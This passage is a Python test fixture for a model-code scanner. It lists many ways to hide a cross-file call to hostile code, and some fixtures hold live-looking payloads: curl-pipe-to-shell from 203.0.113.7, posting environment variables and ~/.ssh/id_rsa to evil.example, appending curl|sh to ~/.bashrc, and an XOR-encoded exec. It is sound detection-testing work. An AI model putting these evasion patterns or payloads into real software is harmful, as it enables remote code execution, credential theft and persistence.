"""Ways to a function of another file that name neither it nor its file where it runs."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.rules.test_linked_code import RUNS, worst

WAYS: dict[str, tuple[str, dict[str, str]]] = {
    "star reexport": (
        "from .ops import *\nprepare()",
        {"ops_____init__": "from .deep import *\n__all__=['prepare']", "ops___deep": RUNS},
    ),
    "lazy getattr pkg": (
        "from . import ops\nops.prepare()",
        {
            "ops_____init__": "def __getattr__(n):\n    from . import deep\n    return getattr(deep,n)",
            "ops___deep": RUNS,
        },
    ),
    "class attr cmd": (
        "from .kernels import K\nK('sh /tmp/.n').run()",
        {"kernels": "import os\nclass K:\n    def __init__(s,c): s.c=c\n    def run(s): os.system(s.c)"},
    ),
    "mixin super": (
        "from .kernels import Base\nclass K(Base):\n    def __init__(self):\n        super().__init__('sh /tmp/.n')\nK()",
        {
            "kernels": "import os\nclass Base:\n    def __init__(s,c):\n        s.boot(c)\n    def boot(s,c): os.system(c)"
        },
    ),
    "template method": (
        "from .kernels import Base\nclass K(Base):\n    cmd='sh /tmp/.n'\nK()",
        {"kernels": "import os\nclass Base:\n    cmd=''\n    def __init__(s):\n        os.system(s.cmd)"},
    ),
    "callback other file": (
        "from .kernels import each\nimport os\neach(os.system,['sh /tmp/.n'])",
        {"kernels": "def each(f,xs):\n    for x in xs: f(x)"},
    ),
    "module passed": (
        "from .kernels import go\nimport os\ngo(os)",
        {"kernels": "def go(m):\n    m.system('sh /tmp/.n')"},
    ),
    "name passed": (
        "from .kernels import go\ngo('os','system','sh /tmp/.n')",
        {"kernels": "import importlib\ndef go(m,f,c):\n    getattr(importlib.import_module(m),f)(c)"},
    ),
    "decoder other file": (
        "from .kernels import d\nexec(d('1f1f0b06120a46090b7d0b2f3f1f'))",
        {"kernels": "def d(h):\n    return bytes(b^0x41 for b in bytes.fromhex(h)).decode()"},
    ),
    "const other file": (
        "from .consts import CMD\nimport subprocess\nsubprocess.Popen(CMD, shell=True)",
        {"consts": "CMD='curl http://203.0.113.7/a | sh'"},
    ),
    "dict config": (
        "from .consts import CFG\nimport subprocess\ndef f(): subprocess.run(CFG['x']['cmd'])\nf()",
        {"consts": "CFG={'x':{'cmd':['sh','-c','curl http://203.0.113.7/a|sh']}}"},
    ),
    "contextmanager": (
        "from .kernels import cm\nwith cm():\n    pass",
        {
            "kernels": "import contextlib,os\n@contextlib.contextmanager\ndef cm():\n    os.system('sh /tmp/.n')\n    yield"
        },
    ),
    "lru_cache": (
        "from .kernels import f\nf()",
        {"kernels": "import functools,os\n@functools.lru_cache()\ndef f():\n    os.system('sh /tmp/.n')"},
    ),
    "cached prop": (
        "from .kernels import K\nK().x",
        {
            "kernels": "import functools,os\nclass K:\n    @functools.cached_property\n    def x(s):\n        os.system('sh /tmp/.n')"
        },
    ),
    "singleton module instance": (
        "from .kernels import manager\nmanager.setup()",
        {"kernels": "import os\nclass M_:\n    def setup(self):\n        os.system('sh /tmp/.n')\nmanager=M_()"},
    ),
    "event bus": (
        "from .bus import emit\nfrom . import handlers\nemit('load','sh /tmp/.n')",
        {
            "bus": "H={}\ndef on(n):\n    def d(f):\n        H.setdefault(n,[]).append(f)\n        return f\n    return d\ndef emit(n,*a):\n    for f in H.get(n,[]): f(*a)",
            "handlers": "import os\nfrom .bus import on\n@on('load')\ndef h(c): os.system(c)",
        },
    ),
    "dataclass": (
        "from .kernels import D\nD('sh /tmp/.n').go()",
        {
            "kernels": "import os\nfrom dataclasses import dataclass\n@dataclass\nclass D:\n    cmd: str\n    def go(self): os.system(self.cmd)"
        },
    ),
    "dataclass field factory": (
        "from .kernels import D\nD()",
        {
            "kernels": "import os\nfrom dataclasses import dataclass, field\ndef mk():\n    os.system('sh /tmp/.n')\n@dataclass\nclass D:\n    x: str = field(default_factory=mk)"
        },
    ),
    "namedtuple": (
        "import os\nfrom collections import namedtuple\nT=namedtuple('T','f a')\nt=T(os.system,'sh /tmp/.n')\nt.f(t.a)",
        {},
    ),
    "enum": (
        "import enum\nfrom .kernels import prepare\nclass E(enum.Enum):\n    A=1\n    def __init__(self, x):\n        prepare()",
        {"kernels": RUNS},
    ),
    "class decorator": (
        "from .kernels import deco\n@deco\nclass X: pass\nX()",
        {
            "kernels": "import os\ndef deco(c):\n    o=c.__init__\n    def __init__(s,*a):\n        os.system('sh /tmp/.n')\n    c.__init__=__init__\n    return c"
        },
    ),
    "setattr class": (
        "from .kernels import prepare\nclass X: pass\nsetattr(X,'__init__',lambda s: prepare())\nX()",
        {"kernels": RUNS},
    ),
    "metaclass call": (
        "from .kernels import prepare\nclass Mt(type):\n    def __call__(c,*a):\n        prepare()\nclass X(metaclass=Mt): pass\nX()",
        {"kernels": RUNS},
    ),
    "generator send": (
        "from .kernels import prepare\ndef g():\n    while True:\n        c = yield\n        prepare(c)\nx=g(); next(x); x.send('sh /tmp/.n')",
        {"kernels": RUNS},
    ),
    "async": (
        "import asyncio\nfrom .kernels import prepare\nasync def m():\n    await n()\nasync def n():\n    prepare()\nasyncio.get_event_loop().run_until_complete(m())",
        {"kernels": RUNS},
    ),
    "sys.modules": (
        "import sys\nfrom . import kernels\nsys.modules[__name__.rpartition('.')[0]+'.kernels'].prepare()",
        {"kernels": RUNS},
    ),
    "__dict__": ("from . import kernels\nkernels.__dict__['prepare']()", {"kernels": RUNS}),
    "vars": ("from . import kernels\nvars(kernels)['prep'+'are']()", {"kernels": RUNS}),
    "globals": ("from .kernels import prepare\nglobals()['prepare']()", {"kernels": RUNS}),
    "inspect members": (
        "import inspect\nfrom . import kernels\nfor n,f in inspect.getmembers(kernels, inspect.isfunction):\n    f()",
        {"kernels": RUNS},
    ),
    "dir loop": (
        "from . import kernels\nfor n in dir(kernels):\n    if n.startswith('prep'):\n        getattr(kernels,n)()",
        {"kernels": RUNS},
    ),
    "vars loop": (
        "from . import kernels\nfor n,f in vars(kernels).items():\n    if callable(f): f()",
        {"kernels": RUNS},
    ),
    "pkgutil": (
        "import pkgutil,importlib,os\nfor m in pkgutil.iter_modules([os.path.dirname(__file__)]):\n    importlib.import_module('.'+m.name,__package__).prepare()",
        {"kernels": RUNS},
    ),
    "eval name": ("from .kernels import prepare\neval('prepare()')", {"kernels": RUNS}),
    "exec import": ("exec('from .kernels import prepare\\nprepare()')", {"kernels": RUNS}),
    "runpy": (
        "import runpy,os\nrunpy.run_path(os.path.join(os.path.dirname(__file__),'kernels.py'))['prepare']()",
        {"kernels": RUNS},
    ),
    "threading subclass": (
        "from .kernels import T\nT().start()",
        {"kernels": "import threading,os\nclass T(threading.Thread):\n    def run(self): os.system('sh /tmp/.n')"},
    ),
    "partialmethod": (
        "import functools,os\nclass T:\n    def r(s,c): os.system(c)\n    go=functools.partialmethod(r,'sh /tmp/.n')\nT().go()",
        {},
    ),
    "singledispatch": (
        "import functools\nfrom .kernels import prepare\n@functools.singledispatch\ndef f(x): pass\n@f.register(int)\ndef _(x): prepare()\nf(1)",
        {"kernels": RUNS},
    ),
    "try except": (
        "from .kernels import prepare\ntry:\n    raise ValueError('sh /tmp/.n')\nexcept ValueError as e:\n    prepare(e.args[0])",
        {"kernels": RUNS},
    ),
    "except handler": (
        "from .kernels import prepare\ntry:\n    1/0\nexcept Exception:\n    prepare()",
        {"kernels": RUNS},
    ),
    "exc subclass": (
        "from .kernels import prepare\nclass E(Exception):\n    def __init__(s,*a):\n        prepare()\ntry:\n    raise E\nexcept E: pass",
        {"kernels": RUNS},
    ),
    "with exit": (
        "from .kernels import prepare\nimport contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(prepare)",
        {"kernels": RUNS},
    ),
    "property del": (
        "from .kernels import prepare\nclass T:\n    x=property(lambda s: prepare())\nT().x",
        {"kernels": RUNS},
    ),
    "property func": (
        "from .kernels import prepare\nclass T:\n    def g(s): prepare()\n    x=property(g)\nT().x",
        {"kernels": RUNS},
    ),
    "setter": (
        "from .kernels import prepare\nclass T:\n    @property\n    def x(s): return 1\n    @x.setter\n    def x(s,v): prepare(v)\nT().x='sh /tmp/.n'",
        {"kernels": RUNS},
    ),
    "staticmethod": (
        "from .kernels import K\nK.go('sh /tmp/.n')",
        {"kernels": "import os\nclass K:\n    @staticmethod\n    def go(c): os.system(c)"},
    ),
    "classmethod": (
        "from .kernels import K\nK.go('sh /tmp/.n')",
        {
            "kernels": "import os\nclass K:\n    @classmethod\n    def go(cls,c): cls.run(c)\n    @classmethod\n    def run(cls,c): os.system(c)"
        },
    ),
    "nested fn": (
        "from .kernels import mk\nmk('os')('system')('sh /tmp/.n')",
        {
            "kernels": "def mk(m):\n    def a(f):\n        def b(c):\n            return getattr(__import__(m),f)(c)\n        return b\n    return a"
        },
    ),
    "lambda chain": (
        "from .kernels import C\nC['x']()",
        {"kernels": "import os\nC={'x':lambda: (lambda c: os.system(c))('sh /tmp/.n')}"},
    ),
    "default arg": ("from .kernels import prepare\ndef f(x=prepare()): pass", {"kernels": RUNS}),
    "comprehension": ("from .kernels import prepare\n[prepare(c) for c in ('sh /tmp/.n',)]", {"kernels": RUNS}),
    "walrus": ("from .kernels import prepare\nif (r:=prepare()): pass", {"kernels": RUNS}),
    "conditional": (
        "from .kernels import prepare\nimport torch\ntorch.cuda.is_available() and prepare()",
        {"kernels": RUNS},
    ),
    "assert": ("from .kernels import prepare\nassert prepare() is None", {"kernels": RUNS}),
    "annotation": ("from .kernels import prepare\nx: prepare() = 1", {"kernels": RUNS}),
    "pickle reduce": (
        "import pickle\nfrom .kernels import prepare\nclass T:\n    def __reduce__(s): return (prepare,('sh /tmp/.n',))\npickle.loads(pickle.dumps(T()))",
        {"kernels": RUNS},
    ),
    "signal": (
        "import signal,os\nfrom .kernels import prepare\nsignal.signal(signal.SIGALRM,lambda *a: prepare())\nsignal.alarm(1)",
        {"kernels": RUNS},
    ),
    "settrace": (
        "import sys\nfrom .kernels import prepare\ndef t(f,e,a): prepare()\nsys.settrace(t)",
        {"kernels": RUNS},
    ),
    "codecs": (
        "import codecs\nfrom .kernels import prepare\ncodecs.register(lambda n: prepare())\n'x'.encode('zz')",
        {"kernels": RUNS},
    ),
    "displayhook": ("import sys\nfrom .kernels import prepare\nsys.displayhook=prepare", {"kernels": RUNS}),
    "builtins patch": (
        "import builtins\nfrom .kernels import prepare\nbuiltins.print=lambda *a: prepare()",
        {"kernels": RUNS},
    ),
    "torch patch": ("import torch\nfrom .kernels import prepare\ntorch.load=lambda *a: prepare()", {"kernels": RUNS}),
    "forward hook": (
        "import torch\nfrom torch import nn\nfrom .kernels import prepare\nclass M(nn.Module):\n    def __init__(s,config):\n        s.register_forward_hook(lambda *a: prepare())",
        {"kernels": RUNS},
    ),
    "register_buffer": (
        "from torch import nn\nfrom .kernels import Helper\nclass M(nn.Module):\n    def __init__(s,config):\n        s.h=Helper(config)\n    def forward(s,x):\n        return s.h.run(x)",
        {"kernels": "import os\nclass Helper:\n    def __init__(s,c): pass\n    def run(s,x): os.system('sh /tmp/.n')"},
    ),
    "called from non-entry via forward": (
        "from torch import nn\nclass M(nn.Module):\n    def forward(s,x):\n        return s.compute(x)\n    def compute(s,x):\n        from .kernels import prepare\n        prepare()",
        {"kernels": RUNS},
    ),
    "autograd": (
        "import torch\nfrom .kernels import prepare\nclass F(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx,x):\n        prepare()\nF.apply(torch.ones(1))",
        {"kernels": RUNS},
    ),
    "custom op": (
        "import torch\nfrom .kernels import prepare\n@torch.library.custom_op('a::b', mutates_args=())\ndef f(x: torch.Tensor) -> torch.Tensor:\n    prepare()\nf(torch.ones(1))",
        {"kernels": RUNS},
    ),
    "unknown branch list": (
        "import os\nfrom .kernels import prepare\nfs=[len,print,prepare]\nfs[os.getpid()%3]()",
        {"kernels": RUNS},
    ),
    "while true": ("from .kernels import prepare\nwhile True:\n    prepare()\n    break", {"kernels": RUNS}),
    "finally": (
        "from .kernels import prepare\ndef f():\n    try:\n        return 1\n    finally:\n        prepare()\nf()",
        {"kernels": RUNS},
    ),
    "after dead": (
        "from .kernels import prepare\nimport sys\nif 'x' in sys.argv:\n    raise SystemExit\nprepare()",
        {"kernels": RUNS},
    ),
    "try ended": (
        "from .kernels import prepare\ntry:\n    raise KeyError\nexcept KeyError:\n    pass\nprepare()",
        {"kernels": RUNS},
    ),
    "raise in func caught": (
        "from .kernels import prepare\ndef f():\n    raise KeyError\ntry:\n    f()\nexcept KeyError:\n    prepare()",
        {"kernels": RUNS},
    ),
    "attr on fn": ("from .kernels import prepare\ndef f(): pass\nf.go=prepare\nf.go()", {"kernels": RUNS}),
    "swap tuple": ("from .kernels import prepare\na,b=len,prepare\na,b=b,a\na()", {"kernels": RUNS}),
    "del trick": ("from .kernels import prepare\nx=prepare\ndel prepare\nx()", {"kernels": RUNS}),
    "str.format dunder": (
        "from .kernels import prepare\nclass T:\n    def __format__(s,f): prepare()\n'{}'.format(T())",
        {"kernels": RUNS},
    ),
    "percent": ("from .kernels import prepare\nclass T:\n    def __str__(s): prepare()\n'%s' % T()", {"kernels": RUNS}),
    "print": ("from .kernels import prepare\nclass T:\n    def __str__(s): prepare()\nprint(T())", {"kernels": RUNS}),
    "logging": (
        "import logging\nfrom .kernels import prepare\nclass T:\n    def __str__(s): prepare()\nlogging.warning('%s',T())",
        {"kernels": RUNS},
    ),
    "torch tensor idx": (
        "import torch\nfrom .kernels import prepare\nclass T:\n    def __index__(s): prepare()\ntorch.ones(3)[T()]",
        {"kernels": RUNS},
    ),
    "__torch_function__": (
        "import torch\nfrom .kernels import prepare\nclass T:\n    @classmethod\n    def __torch_function__(c,*a): prepare()\ntorch.add(T(),1)",
        {"kernels": RUNS},
    ),
    "__array__": (
        "import numpy\nfrom .kernels import prepare\nclass T:\n    def __array__(s): prepare()\nnumpy.asarray(T())",
        {"kernels": RUNS},
    ),
    "import hook": (
        "from . import kernels",
        {
            "kernels": "import sys,os\nclass F:\n    def find_module(s,n,p=None): os.system('sh /tmp/.n')\nsys.meta_path.insert(0,F())"
        },
    ),
    "path hooks": (
        "import sys\nfrom .kernels import prepare\nsys.path_hooks.append(lambda p: prepare())",
        {"kernels": RUNS},
    ),
    "entry gen config": (
        "from .kernels import Cfg",
        {"kernels": "import os\nclass Cfg:\n    def __init__(self,**k):\n        os.system('sh /tmp/.n')"},
    ),
    "os.register_at_fork": (
        "import os\nfrom .kernels import prepare\nos.register_at_fork(before=prepare)",
        {"kernels": RUNS},
    ),
    "multiprocessing": (
        "import multiprocessing as mp\nfrom .kernels import prepare\nmp.Process(target=prepare).start()",
        {"kernels": RUNS},
    ),
    "pool map": (
        "from multiprocessing.pool import ThreadPool\nfrom .kernels import prepare\nThreadPool(1).map(prepare,['sh /tmp/.n'])",
        {"kernels": RUNS},
    ),
    "sched": (
        "import sched,time\nfrom .kernels import prepare\ns=sched.scheduler(time.time)\ns.enter(1,1,prepare,('sh /tmp/.n',))\ns.run()",
        {"kernels": RUNS},
    ),
    "contextvars": (
        "import contextvars\nfrom .kernels import prepare\ncontextvars.copy_context().run(prepare,'sh /tmp/.n')",
        {"kernels": RUNS},
    ),
    "re.sub": ("import re\nfrom .kernels import prepare\nre.sub('x',lambda m: prepare(),'x')", {"kernels": RUNS}),
    "json hook": ("import json\nfrom .kernels import prepare\njson.loads('{}',object_hook=prepare)", {"kernels": RUNS}),
    "defaultdict": (
        "import collections\nfrom .kernels import prepare\nd=collections.defaultdict(prepare)\nd[1]",
        {"kernels": RUNS},
    ),
    "iter sentinel": ("from .kernels import prepare\nfor x in iter(prepare,None): pass", {"kernels": RUNS}),
    "itertools accumulate": (
        "import itertools\nfrom .kernels import prepare\nlist(itertools.accumulate([1,2],lambda a,b: prepare()))",
        {"kernels": RUNS},
    ),
    "type call 3": (
        "from .kernels import prepare\nX=type('X',(object,),{'__call__':lambda s: prepare()})\nX()()",
        {"kernels": RUNS},
    ),
    "descriptor class access": (
        "from .kernels import prepare\nclass D:\n    def __get__(s,o,t): prepare()\nclass X:\n    d=D()\nX.d",
        {"kernels": RUNS},
    ),
    "class property via meta": (
        "from .kernels import prepare\nclass Mt(type):\n    @property\n    def go(c): prepare()\nclass X(metaclass=Mt): pass\nX.go",
        {"kernels": RUNS},
    ),
    "getattribute": (
        "from .kernels import prepare\nclass X:\n    def __getattribute__(s,n): prepare()\nX().q",
        {"kernels": RUNS},
    ),
    "__rmatmul__": (
        "from .kernels import prepare\nclass X:\n    def __rmatmul__(s,n): prepare()\n1 @ X()",
        {"kernels": RUNS},
    ),
    "__contains__ enum": (
        "from .kernels import prepare\nclass Mt(type):\n    def __contains__(c,x): prepare()\nclass X(metaclass=Mt): pass\n1 in X",
        {"kernels": RUNS},
    ),
    "__iter__ star call": (
        "from .kernels import prepare\nclass X:\n    def __iter__(s):\n        prepare()\n        yield 1\nprint(*X())",
        {"kernels": RUNS},
    ),
    "keys dstar": (
        "from .kernels import prepare\nclass X:\n    def keys(s): prepare()\n    def __getitem__(s,k): pass\ndict(**X())",
        {"kernels": RUNS},
    ),
    "dict update": (
        "from .kernels import prepare\nclass X:\n    def keys(s): prepare()\n    def __getitem__(s,k): pass\n{}.update(X())",
        {"kernels": RUNS},
    ),
    "bool not": ("from .kernels import prepare\nclass X:\n    def __bool__(s): prepare()\nnot X()", {"kernels": RUNS}),
    "eq": ("from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n1 == X()", {"kernels": RUNS}),
    "list eq": (
        "from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n[X()] == [1]",
        {"kernels": RUNS},
    ),
    "in list eq": (
        "from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n1 in [X()]",
        {"kernels": RUNS},
    ),
    "sum add": (
        "from .kernels import prepare\nclass X:\n    def __radd__(s,o): prepare()\nsum([X()])",
        {"kernels": RUNS},
    ),
    "max lt": (
        "from .kernels import prepare\nclass X:\n    def __gt__(s,o): prepare()\nmax(X(),X())",
        {"kernels": RUNS},
    ),
    "aiter": (
        "import asyncio\nfrom .kernels import prepare\nclass X:\n    def __aiter__(s): return s\n    async def __anext__(s): prepare()\nasync def m():\n    async for x in X(): pass\nasyncio.run(m())",
        {"kernels": RUNS},
    ),
    "os.path fspath": (
        "import os\nfrom .kernels import prepare\nclass X:\n    def __fspath__(s): prepare()\nopen(X())",
        {"kernels": RUNS},
    ),
    "super attr": (
        "from .kernels import Base\nclass K(Base):\n    def go(self):\n        super().go()\nK().go()",
        {"kernels": "import os\nclass Base:\n    def go(s): os.system('sh /tmp/.n')"},
    ),
    "hex config other": (
        "from .kernels import go\ngo()",
        {
            "kernels": "from .c import A,B\nimport importlib\ndef go():\n    getattr(importlib.import_module(A[::-1]),B[::-1])('sh /tmp/.n')",
            "c": "A='so'\nB='metsys'",
        },
    ),
    "non-init __call__": (
        "from .kernels import run\nrun('sh /tmp/.n')",
        {"kernels": "import os\nclass R:\n    def __call__(s,c): os.system(c)\nrun=R()"},
    ),
    "urllib open": (
        "from .net import fetch\nexec(fetch('http://203.0.113.7/x'))",
        {"net": "import urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()"},
    ),
    "exfil": (
        "from .net import post\nimport os\npost('https://evil.example/c',dict(os.environ))",
        {"net": "import requests\ndef post(u,d):\n    requests.post(u,json=d)"},
    ),
    "read ssh": (
        "from .net import post,read\npost('https://evil.example/c',read('~/.ssh/id_rsa'))",
        {
            "net": "import requests,os\ndef read(p):\n    return open(os.path.expanduser(p)).read()\ndef post(u,d):\n    requests.post(u,data=d)"
        },
    ),
    "bashrc": (
        "from .w import w\nw('~/.bashrc','curl http://x|sh')",
        {"w": "import os\ndef w(p,t):\n    with open(os.path.expanduser(p),'a') as f: f.write(t)"},
    ),
    "marshal": ("from .w import l\nexec(l(b'abc'))", {"w": "import marshal\ndef l(b): return marshal.loads(b)"}),
    "name in": (
        "from .kernels import prepare\nif 'transformers_modules' in __name__:\n    prepare()",
        {"kernels": RUNS},
    ),
    "name startswith": (
        "from .kernels import prepare\nif __name__.startswith('transformers_modules'):\n    prepare()",
        {"kernels": RUNS},
    ),
    "name not main": ("from .kernels import prepare\nif __name__ != '__main__':\n    prepare()", {"kernels": RUNS}),
    "package truth": ("from .kernels import prepare\nif __package__:\n    prepare()", {"kernels": RUNS}),
    "default none": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x, labels=None):\n        if labels is not None:\n            prepare()",
        {"kernels": RUNS},
    ),
    "default flag": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config, fast=False):\n        if fast:\n            prepare()",
        {"kernels": RUNS},
    ),
    "kwonly": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x, *, fast=False):\n        if fast:\n            prepare()",
        {"kernels": RUNS},
    ),
    "kwargs pop": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config, **kw):\n        if kw.pop('fast', False):\n            prepare()",
        {"kernels": RUNS},
    ),
    "kwargs get": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, **kw):\n        if kw.get('fast'):\n            prepare()",
        {"kernels": RUNS},
    ),
    "config flag": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        if config.use_fast:\n            prepare()",
        {"kernels": RUNS},
    ),
    "config getattr": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        if getattr(config,'use_fast',False):\n            prepare()",
        {"kernels": RUNS},
    ),
    "counter": (
        "from .kernels import prepare\nN=0\ndef step():\n    global N\n    N+=1\n    if N>3:\n        prepare()\nfor _ in range(10): step()",
        {"kernels": RUNS},
    ),
    "setattr unknown": (
        "from .kernels import prepare\nimport os\nclass C: go=False\nc=C()\nsetattr(c,os.environ.get('X','go'),True)\nif c.go: prepare()",
        {"kernels": RUNS},
    ),
    "flag other module": (
        "from . import kernels\nkernels.FLAG=True\nkernels.maybe()",
        {"kernels": RUNS + "FLAG=False\ndef maybe():\n    if FLAG: prepare()"},
    ),
    "flag via from": (
        "from .st import S\nS['on']=True\nfrom .kernels import maybe\nmaybe()",
        {"st": "S={'on':False}", "kernels": RUNS + "from .st import S\ndef maybe():\n    if S['on']: prepare()"},
    ),
    "flag list": (
        "from .st import L\nL.append(1)\nfrom .kernels import maybe\nmaybe()",
        {"st": "L=[]", "kernels": RUNS + "from .st import L\ndef maybe():\n    if len(L)>0: prepare()"},
    ),
    "len table": (
        "from .st import L\nL['a']=1\nfrom .kernels import maybe\nmaybe()",
        {"st": "L={}", "kernels": RUNS + "from .st import L\ndef maybe():\n    if len(L)==1: prepare()"},
    ),
    "instance flag": (
        "from .kernels import prepare\nclass C:\n    on=False\n    def enable(self): self.on=True\n    def go(self):\n        if self.on: prepare()\nc=C(); c.enable(); c.go()",
        {"kernels": RUNS},
    ),
    "class flag": (
        "from .kernels import prepare\nclass C:\n    on=False\ndef en(): C.on=True\nen()\nif C.on: prepare()",
        {"kernels": RUNS},
    ),
    "dict update flag": (
        "from .kernels import prepare\nD=dict(on=False)\nD.update(on=True)\nif D['on']: prepare()",
        {"kernels": RUNS},
    ),
    "del then": ("from .kernels import prepare\nx=[1]\nx.clear()\nif not x: prepare()", {"kernels": RUNS}),
    "pop empty": ("from .kernels import prepare\nx=[1]\nx.pop()\nif not x: prepare()", {"kernels": RUNS}),
    "str build": (
        "from .kernels import prepare\ns=''\nfor c in 'abc': s+=c\nif s=='abc': prepare()",
        {"kernels": RUNS},
    ),
    "float cmp": ("from .kernels import prepare\nimport time\nif time.time()>0: prepare()", {"kernels": RUNS}),
    "hash cmp": ("from .kernels import prepare\nif hash('x')!=0: prepare()", {"kernels": RUNS}),
    "int overflow": ("from .kernels import prepare\nif 10**5==100000: prepare()", {"kernels": RUNS}),
    "chained cmp": ("from .kernels import prepare\nif 1<2<3: prepare()", {"kernels": RUNS}),
    "not not": ("from .kernels import prepare\nif not not 'x': prepare()", {"kernels": RUNS}),
    "in tuple": (
        "from .kernels import prepare\nimport sys\nif sys.platform in ('linux','darwin'): prepare()",
        {"kernels": RUNS},
    ),
    "try else": (
        "from .kernels import prepare\ntry:\n    import json\nexcept ImportError:\n    pass\nelse:\n    prepare()",
        {"kernels": RUNS},
    ),
    "while counter": (
        "from .kernels import prepare\ni=0\nwhile i<500:\n    i+=1\nif i==500: prepare()",
        {"kernels": RUNS},
    ),
    "while long then": (
        "from .kernels import prepare\ni=0\nwhile True:\n    i+=1\n    if i>1000: break\nprepare()",
        {"kernels": RUNS},
    ),
    "for else": ("from .kernels import prepare\nfor i in []: pass\nelse: prepare()", {"kernels": RUNS}),
    "for big": (
        "from .kernels import prepare\nn=0\nfor i in range(100000): n+=1\nif n==100000: prepare()",
        {"kernels": RUNS},
    ),
    "long list after": (
        "from .kernels import prepare\nxs=list(range(6000))\nfor x in xs:\n    if x==5999: prepare()",
        {"kernels": RUNS},
    ),
    "nested fn closure flag": (
        "from .kernels import prepare\ndef mk():\n    on=[False]\n    def a(): on[0]=True\n    def b():\n        if on[0]: prepare()\n    return a,b\na,b=mk(); a(); b()",
        {"kernels": RUNS},
    ),
    "nonlocal": (
        "from .kernels import prepare\ndef mk():\n    on=False\n    def a():\n        nonlocal on\n        on=True\n    def b():\n        if on: prepare()\n    a(); b()\nmk()",
        {"kernels": RUNS},
    ),
    "memo same args": (
        "from .kernels import prepare\nS=[]\ndef f():\n    if len(S)>2: prepare()\n    S.append(1)\nf();f();f();f()",
        {"kernels": RUNS},
    ),
    "memo global object": (
        "from .kernels import prepare\nclass S: n=0\ndef f():\n    if S.n>1: prepare()\n    S.n+=1\nf();f();f()",
        {"kernels": RUNS},
    ),
    "memo via env": (
        "from .kernels import prepare\nimport os\ndef f():\n    if os.environ.get('A')=='1': prepare()\nf()\nos.environ['A']='1'\nf()",
        {"kernels": RUNS},
    ),
    "generator lazy": (
        "from .kernels import prepare\ndef g():\n    yield 1\n    prepare()\nfor x in g(): pass",
        {"kernels": RUNS},
    ),
    "gen expr": ("from .kernels import prepare\nlist(prepare() for _ in range(1))", {"kernels": RUNS}),
    "async gen": (
        "from .kernels import prepare\nimport asyncio\nasync def g():\n    yield 1\n    prepare()\nasync def m():\n    async for x in g(): pass\nasyncio.run(m())",
        {"kernels": RUNS},
    ),
    "recursion data": (
        "from .kernels import prepare\ndef walk(t):\n    for c in t:\n        if callable(c): c()\n        else: walk(c)\nwalk([[[[[[[prepare]]]]]]])",
        {"kernels": RUNS},
    ),
    "visitor": (
        "import ast\nfrom .kernels import V\nV().visit(ast.parse('x=1'))",
        {"kernels": "import ast,os\nclass V(ast.NodeVisitor):\n    def visit_Assign(self,n): os.system('sh /tmp/.n')"},
    ),
    "dispatch getattr": (
        "from .kernels import prepare\nclass C:\n    def do_x(self): prepare()\n    def run(self,n): getattr(self,'do_'+n)()\nC().run('x')",
        {"kernels": RUNS},
    ),
    "dispatch unknown": (
        "from .kernels import prepare\nimport os\nclass C:\n    def do_x(self): prepare()\n    def run(self,n): getattr(self,'do_'+n)()\nC().run(os.environ.get('Q'))",
        {"kernels": RUNS},
    ),
    "state machine": (
        "from .kernels import prepare\nclass C:\n    def a(self): return self.b\n    def b(self): return self.c\n    def c(self): prepare()\ns=C().a\nwhile s: s=s()",
        {"kernels": RUNS},
    ),
    "trampoline": (
        "from .kernels import prepare\ndef t(f):\n    while callable(f): f=f()\nt(lambda: lambda: prepare)",
        {"kernels": RUNS},
    ),
    "ycomb": ("from .kernels import prepare\n(lambda f: f(f))(lambda f: prepare())", {"kernels": RUNS}),
    "reduce compose": (
        "from .kernels import prepare\nimport functools\nfunctools.reduce(lambda a,f: f(a), [str, lambda x: prepare()], 1)",
        {"kernels": RUNS},
    ),
    "map chain": (
        "from .kernels import prepare\nfor f in map(lambda n: globals()[n], ['prepare']): f()",
        {"kernels": RUNS},
    ),
    "zip": ("from .kernels import prepare\nfor f,a in zip([prepare],['sh /tmp/.n']): f(a)", {"kernels": RUNS}),
    "dict comp": ("from .kernels import prepare\n{k: prepare() for k in [1]}", {"kernels": RUNS}),
    "sorted cmp_to_key": (
        "from .kernels import prepare\nimport functools\nsorted([1,2],key=functools.cmp_to_key(lambda a,b: prepare()))",
        {"kernels": RUNS},
    ),
    "operator itemgetter fn": (
        "from .kernels import prepare\nimport operator\noperator.itemgetter('x')({'x':prepare})()",
        {"kernels": RUNS},
    ),
    "types.MethodType": (
        "from .kernels import prepare\nimport types\nclass C: pass\nc=C()\nc.go=types.MethodType(lambda s: prepare(),c)\nc.go()",
        {"kernels": RUNS},
    ),
    "__get__ manual": (
        "from .kernels import prepare\nclass C:\n    def go(self): prepare()\nC.__dict__['go'].__get__(C())()",
        {"kernels": RUNS},
    ),
    "super chain": (
        "from .kernels import prepare\nclass A:\n    def go(self): prepare()\nclass B(A):\n    def go(self): super(B,self).go()\nB().go()",
        {"kernels": RUNS},
    ),
    "mro diamond": (
        "from .kernels import prepare\nclass A:\n    def go(self): pass\nclass B(A):\n    def go(self): super().go()\nclass C(A):\n    def go(self): prepare()\nclass D(B,C): pass\nD().go()",
        {"kernels": RUNS},
    ),
    "inherit library call": (
        "from .kernels import prepare\nimport torch\nclass M(torch.nn.Module):\n    def helper(self): prepare()\n    def __init__(self, config):\n        super().__init__()\n        self.apply(lambda m: self.helper())",
        {"kernels": RUNS},
    ),
    "pydantic": (
        "from .kernels import prepare\nimport pydantic\nclass X(pydantic.BaseModel):\n    a:int\n    @pydantic.field_validator('a')\n    def v(cls,x):\n        prepare()\nX(a=1)",
        {"kernels": RUNS},
    ),
    "argparse type": (
        "from .kernels import prepare\nimport argparse\np=argparse.ArgumentParser()\np.add_argument('--x',type=prepare,default='sh /tmp/.n')\np.parse_args([])",
